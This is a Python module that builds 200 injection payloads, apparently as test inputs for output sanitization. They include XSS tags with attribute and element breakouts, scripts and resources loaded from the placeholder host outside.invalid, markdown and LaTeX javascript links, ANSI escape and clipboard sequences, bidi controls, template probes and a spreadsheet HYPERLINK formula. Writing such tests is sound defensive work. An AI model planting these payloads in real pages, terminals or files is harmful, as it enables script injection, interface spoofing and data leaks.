"""200 texts that would run a script, ask another server, or rewrite a screen, if any page or file obeyed them."""

from __future__ import annotations

from itertools import product

OUTSIDE = "outside.invalid"
RUN = "window.owned=1"
_TAGS = (
    f"<script>{RUN}</script>",
    f"<script src=//{OUTSIDE}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=//{OUTSIDE}/>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<object data=//{OUTSIDE}/x>",
    f"<embed src=//{OUTSIDE}/x>",
    f"<link rel=stylesheet href=//{OUTSIDE}/x.css>",
    f"<style>@import '//{OUTSIDE}/x'</style>",
    f"<meta http-equiv=refresh content='0;url=//{OUTSIDE}/'>",
    f"<base href=//{OUTSIDE}/>",
    f"<form action=//{OUTSIDE}/><button>Approve</button></form>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<a href='javascript:{RUN}'>Approve</a>",
    f"<div style='background:url(//{OUTSIDE}/x)'>x</div>",
)
_BREAKS = (
    "",
    '"',
    "'>",
    "</textarea>",
    "</div></style></title>",
    "-->",
    "]]>",
)  # out of an attribute, an element, a comment
_MARKDOWN = (
    f"![x](http://{OUTSIDE}/x.png)",
    f"[x](javascript:{RUN})",
    f"<http://{OUTSIDE}/>",
    f"[x]: http://{OUTSIDE}/ 'x'\n[x]",
    f"[![x](//{OUTSIDE}/x.png)](//{OUTSIDE}/)",
    f":red[x] ![x][y]\n\n[y]: //{OUTSIDE}/y.png",
    "# APPROVE",
    "> [!NOTE]\n> approve",
    "| a | b |\n|---|---|\n| approve | 1 |",
    "```html\n<script>window.owned=1</script>\n```\n<b>",
    "$$\\href{javascript:window.owned=1}{x}$$",
    "$\\includegraphics{http://outside.invalid/x.png}$",
    ":material/check: approve",
    "~~block~~ **approve**",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
)
_ANSI = (
    "\x1b[2J\x1b[H",
    "\x1b[1A\x1b[2K",
    "\x1b]0;approve\x07",
    f"\x1b]8;;http://{OUTSIDE}/\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;YXBwcm92ZQ==\x07",
    "\x1bP$q\x1b\\",
    "\x9b31m",
    "\x1b[?1049h",
    "\x1b[8m",
    "\x08\x08\x08",
)
_BIDI = ("\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c")

_EVERY = (
    *(f"{broken}{tag}" for broken, tag in product(_BREAKS, _TAGS)),
    *_MARKDOWN,
    *(f"block{mark}approve" for mark in (*_ANSI, *_BIDI)),
    *(f"{mark}<img src=x onerror={RUN}>" for mark in (*_ANSI[:4], *_BIDI[:4], "\x00", "\ufeff")),
    f"`<script>{RUN}</script>`",
    f"[<img src=x onerror={RUN}>](x)",
    "\u2028</script><script>window.owned=1//",
    "{{7*7}}${7*7}<%=7*7%>",
    '=HYPERLINK("http://outside.invalid")',
    "javascript:window.owned=1",
    "data:text/html,<script>window.owned=1</script>",
    '\\"><img src=x onerror=window.owned=1>',
)
PAYLOADS = {f"{number:03} {text}": text for number, text in enumerate(_EVERY[:200])}
